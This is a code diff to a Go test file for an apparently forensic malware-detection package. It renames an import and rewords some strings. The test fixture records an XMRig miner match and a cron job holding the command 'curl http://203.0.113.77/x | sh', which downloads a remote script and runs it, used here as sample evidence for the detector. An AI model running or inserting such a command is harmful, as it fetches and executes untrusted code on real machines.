@@ -3,25 +3,24 @@ package detect
 import (
 	"context"
 	"errors"
+	"icecore/forensics/model"
 	"strings"
 	"testing"
-
-	"icecore/forensics/artifact"
 )
 
 func twoClaims() *Input {
-	y := artifact.Record{Kind: "yara.match", ID: "R-000001", Source: artifact.Source{Volume: "p1", Path: "/usr/local/bin/x", Inode: 12}}
+	y := model.Record{Kind: "yara.match", ID: "R-000001", Source: model.Source{Volume: "p1", Path: "/usr/local/bin/x", Inode: 12}}
 	y.Add("rule", "XMRig_Binary")
 	y.Add("level", "critical")
 	y.Add("technique", "T1496.001")
 	y.Add("file_type", "elf")
-	s := artifact.Record{Kind: "cron.job", ID: "R-000002", Source: artifact.Source{Volume: "p1", Path: "/etc/cron.d/job", Inode: 13, Line: 1}}
+	s := model.Record{Kind: "cron.job", ID: "R-000002", Source: model.Source{Volume: "p1", Path: "/etc/cron.d/job", Inode: 13, Line: 1}}
 	s.Add("command", "curl http://203.0.113.77/x | sh")
 	s.Add("traits", "pipe_to_shell")
-	return &Input{Records: []artifact.Record{y, s}}
+	return &Input{Records: []model.Record{y, s}}
 }
 
-// TestFailingAnalysis: an analysis that panics is told of, once, and all the others run.
+// TestFailingAnalysis: an analysis that panics is named, once, and all the others run.
 func TestFailingAnalysis(t *testing.T) {
 	rules, err := Load(Options{})
 	if err != nil {
@@ -53,7 +52,7 @@ func TestFailingAnalysis(t *testing.T) {
 			t.Fatal(err)
 		}
 		if n := len(res.Failed); n == 0 || n > 2 || res.Failed[0].File != name || !strings.Contains(res.Failed[0].Why, "internal error at guard_test.go") {
-			t.Errorf("%s: told %v", name, res.Failed)
+			t.Errorf("%s: it names %v", name, res.Failed)
 		}
 		if n := len(res.Findings); n >= want == lost[name] {
 			t.Errorf("%s: %d findings, all together give %d", name, n, want)
